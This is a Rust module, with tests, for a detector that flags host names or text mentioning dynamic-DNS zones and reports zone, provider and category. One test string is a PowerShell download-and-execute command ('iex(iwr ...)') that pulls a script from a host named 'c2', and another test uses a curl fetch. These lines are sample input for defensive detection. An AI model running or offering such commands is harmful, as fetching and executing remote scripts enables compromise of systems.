//! Verdicts: field values in, the zones they lie below out.
//!
//! A [`Judge`] reads values the way the options say ([`Mode::Host`]: each
//! value is one host name or URL; [`Mode::Text`]: each value is free text
//! with hosts embedded) and collects every distinct match of one record
//! (several fields, multivalue cells) in [`Hits`]: a function of the set of
//! the record's values, not of their order ([`hits`] says how the lists are
//! ordered). A record is `isDynDNS=True` when one of its values is a
//! dynamic-DNS host; a provider's own service host is a hit (its provider,
//! zone and category `provider-service` are reported) but not dynamic DNS.
//! The fields written from the hits are listed once, in [`Field`].

mod cache;
mod fields;
pub mod hits;

pub use fields::{Field, OutputNames, RenameError, Shape};
pub use hits::Hits;

use crate::host::HostExtractor;
use crate::options::Mode;
use crate::textscan::TextScanner;
use crate::zoneset::ZoneSet;
use cache::VerdictCache;

/// How values are turned into candidate hosts.
#[derive(Debug)]
enum Matcher<'z> {
    /// Each value is one host or URL.
    Host(HostExtractor),
    /// Each value is text searched for embedded hosts.
    Text(TextScanner<'z>),
}

/// Judges values against a zone set and collects their hits.
#[derive(Debug)]
pub struct Judge<'z> {
    zones: &'z ZoneSet,
    matcher: Matcher<'z>,
    hits: Hits<'z>,
    /// Recent verdicts of host-mode values.
    cache: VerdictCache,
}

impl<'z> Judge<'z> {
    /// A judge over `zones` that reads values as `mode` says. Neither mode
    /// builds anything that grows with the zones.
    pub fn new(zones: &'z ZoneSet, mode: Mode) -> Judge<'z> {
        let matcher = match mode {
            Mode::Host => Matcher::Host(HostExtractor::new()),
            Mode::Text => Matcher::Text(TextScanner::new(zones)),
        };
        Judge { zones, matcher, hits: Hits::default(), cache: VerdictCache::new() }
    }

    /// Forgets the hits collected so far (a new record).
    #[inline]
    pub fn clear(&mut self) {
        self.hits.clear();
    }

    /// Judges one value and adds its matches to the hits.
    #[inline]
    pub fn add(&mut self, value: &[u8]) {
        let hits = &mut self.hits;
        match &mut self.matcher {
            Matcher::Host(hosts) => {
                let zones = self.zones;
                let verdict = self.cache.get_or_judge(value, |value| {
                    hosts.host(value).and_then(|h| zones.longest_match_id(h))
                });
                if let Some(id) = verdict {
                    hits.push(zones.resolve(id));
                }
            }
            Matcher::Text(scanner) => {
                let (zones, cache) = (self.zones, &mut self.cache);
                scanner.for_each_run(value, |hosts, run| {
                    let verdict = cache.get_or_judge(run, |run| {
                        hosts.host(run).and_then(|h| zones.longest_match_id(h))
                    });
                    if let Some(id) = verdict {
                        hits.push(zones.resolve(id));
                    }
                });
            }
        }
    }

    /// The hits of the values added since the last [`clear`](Self::clear),
    /// in their documented order (see [`hits`]).
    #[inline]
    pub fn hits(&mut self) -> &Hits<'z> {
        self.hits.finish();
        &self.hits
    }

    /// The verdict for one value on its own (what `check` and the external
    /// lookup report): the hits are cleared first.
    pub fn verdict(&mut self, value: &[u8]) -> &Hits<'z> {
        self.clear();
        self.add(value);
        self.hits()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn zones() -> ZoneSet {
        ZoneSet::from_csv(
            &b"zone,provider\nduckdns.org,DuckDNS\nhome.dyndns.org,Dyn\ndyndns.org,Dyn\nx.example,\n"[..],
            "t",
        )
        .unwrap()
    }

    fn list<'a>(h: &'a Hits, f: Field) -> Vec<&'a str> {
        h.values(f).to_vec()
    }

    /// Values of one record accumulate; each field's values are distinct,
    /// sorted as documented; an unnamed provider adds a zone but no
    /// provider.
    #[test]
    fn hits_accumulate_distinct_in_documented_order() {
        let z = zones();
        let mut j = Judge::new(&z, Mode::Host);
        for v in
            ["a.home.dyndns.org", "b.duckdns.org", "c.dyndns.org", "a.x.example", "d.duckdns.org"]
        {
            j.add(v.as_bytes());
        }
        let h = j.hits();
        assert_eq!(
            list(h, Field::Zone),
            ["duckdns.org", "dyndns.org", "home.dyndns.org", "x.example"]
        );
        assert_eq!(list(h, Field::Provider), ["DuckDNS", "Dyn"]);
        assert_eq!(list(h, Field::IsDynDns), ["True"]);
        assert!(j.verdict(b"duckdns.org").is_empty());
        assert_eq!(list(j.verdict(b"duckdns.org"), Field::IsDynDns), ["False"]);
        assert_eq!(list(j.verdict(b"duckdns.org"), Field::Zone), Vec::<&str>::new());
    }

    /// Past the scan limit the set keeps them distinct (linear, not
    /// quadratic), with the same answer as a scan.
    #[test]
    fn many_distinct_zones_stay_distinct() {
        let mut csv = String::from("zone,provider\n");
        for i in 0..100 {
            csv.push_str(&format!("z{i:03}.example,P{}\n", i % 7));
        }
        let z = ZoneSet::from_csv(csv.as_bytes(), "t").unwrap();
        let mut j = Judge::new(&z, Mode::Host);
        for round in 0..2 {
            for i in (0..100).rev() {
                j.add(format!("h{round}.z{i:03}.example").as_bytes());
            }
        }
        assert_eq!(j.hits().values(Field::Zone).len(), 100);
        let want: Vec<String> = (0..7).map(|i| format!("P{i}")).collect();
        assert_eq!(j.hits().values(Field::Provider), want);
    }

    /// A provider's service host does not hide a dynamic-DNS host of the
    /// same zone, whichever comes first (the evasion the order-dependent
    /// verdict allowed), in host and text mode.
    #[test]
    fn service_host_first_does_not_hide_ddns_host() {
        let z = ZoneSet::embedded();
        for mode in [Mode::Host, Mode::Text] {
            let mut j = Judge::new(&z, mode);
            for order in
                [["www.duckdns.org", "c2.duckdns.org"], ["c2.duckdns.org", "www.duckdns.org"]]
            {
                j.clear();
                for v in order {
                    j.add(v.as_bytes());
                }
                let h = j.hits();
                assert_eq!(list(h, Field::IsDynDns), ["True"], "{mode:?} {order:?}");
                assert_eq!(list(h, Field::Category), ["ddns", "provider-service"], "{order:?}");
                assert_eq!(list(h, Field::Zone), ["duckdns.org"], "{order:?}");
            }
            let text = b"iwr https://www.duckdns.org/; iex(iwr http://c2.duckdns.org/a.ps1)";
            if mode == Mode::Text {
                assert_eq!(list(j.verdict(text), Field::IsDynDns), ["True"]);
            }
        }
    }

    /// The verdict is a function of the set of values: every permutation of
    /// a record's values gives the same output values in the same order.
    #[test]
    fn verdict_is_independent_of_value_order() {
        let z = ZoneSet::embedded();
        let value = prop_oneof![
            Just("www.duckdns.org"),
            Just("c2.duckdns.org"),
            Just("duckdns.org"),
            Just("members.dyndns.org"),
            Just("x.dyndns.org"),
            Just("nas.synology.me"),
            Just("a.ddns.net"),
            Just("www.noip.com"),
            Just("x.asuscomm.com"),
            Just("example.com"),
            Just(""),
        ];
        let values = proptest::collection::vec(value, 0..8);
        // One judge per mode, cleared per record (a judge is cheap to reuse).
        let host = std::cell::RefCell::new(Judge::new(&z, Mode::Host));
        let text = std::cell::RefCell::new(Judge::new(&z, Mode::Text));
        proptest!(|(values in values, seed in any::<u64>(), in_text in any::<bool>())| {
            let mut shuffled = values.clone();
            // Fisher-Yates with a small LCG: the permutation is the input.
            let mut s = seed;
            for i in (1..shuffled.len()).rev() {
                s = s.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
                shuffled.swap(i, (s >> 33) as usize % (i + 1));
            }
            let mut j = if in_text { text.borrow_mut() } else { host.borrow_mut() };
            let mut outputs = |vals: &[&str], joined: bool| {
                j.clear();
                if joined {
                    j.add(vals.join(" ").as_bytes());
                } else {
                    for v in vals {
                        j.add(v.as_bytes());
                    }
                }
                let h = j.hits();
                Field::ALL.map(|f| h.values(f).iter().map(|s| s.to_string()).collect::<Vec<_>>())
            };
            let want = outputs(&values, false);
            prop_assert_eq!(&want, &outputs(&shuffled, false));
            if in_text {
                prop_assert_eq!(&want, &outputs(&shuffled, true));
                prop_assert_eq!(&want, &outputs(&values, true));
            }
        });
    }

    /// With the cache, every value gets the verdict a fresh judge gives,
    /// whatever came before it (slots shared, replaced, values of every
    /// length around the cached limit).
    #[test]
    fn cached_verdicts_are_the_zone_sets() {
        let z = zones();
        let value = prop_oneof![
            Just("a.duckdns.org".to_string()),
            Just("duckdns.org".to_string()),
            Just("A.DuckDNS.org.".to_string()),
            Just("x.home.dyndns.org".to_string()),
            "[a-z.]{0,45}",
            "[a-z]{1,30}\\.duckdns\\.org",
        ];
        proptest!(|(values in proptest::collection::vec(value, 1..200))| {
            let mut cached = Judge::new(&z, Mode::Host);
            for v in &values {
                let want = Judge::new(&z, Mode::Host)
                    .verdict(v.as_bytes())
                    .values(Field::Zone)
                    .to_vec();
                let got = cached.verdict(v.as_bytes()).values(Field::Zone).to_vec();
                prop_assert_eq!(got, want, "{}", v);
            }
        });
    }

    #[test]
    fn text_mode_finds_every_embedded_host() {
        let z = zones();
        let mut j = Judge::new(&z, Mode::Text);
        let hits = j.verdict(b"curl http://a.duckdns.org/x; ping b.home.dyndns.org");
        assert_eq!(list(hits, Field::Zone), ["duckdns.org", "home.dyndns.org"]);
        let mut out = Vec::new();
        hits.write_joined(Field::Provider, b"\n", &mut out);
        assert_eq!(out, b"DuckDNS\nDyn");
    }
}
